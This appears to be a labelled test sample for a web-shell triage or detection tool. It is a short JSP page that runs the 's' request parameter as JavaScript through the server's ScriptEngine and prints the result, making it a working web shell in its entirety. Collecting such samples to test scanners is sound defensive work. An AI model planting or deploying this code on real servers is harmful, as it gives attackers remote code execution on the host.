<%-- triage-expect: triage_jsp_script_engine --%>
<%@ page import="javax.script.*" %>
<%
    ScriptEngine e = new ScriptEngineManager().getEngineByName("js");
    out.print(e.eval(request.getParameter("s")));
%>
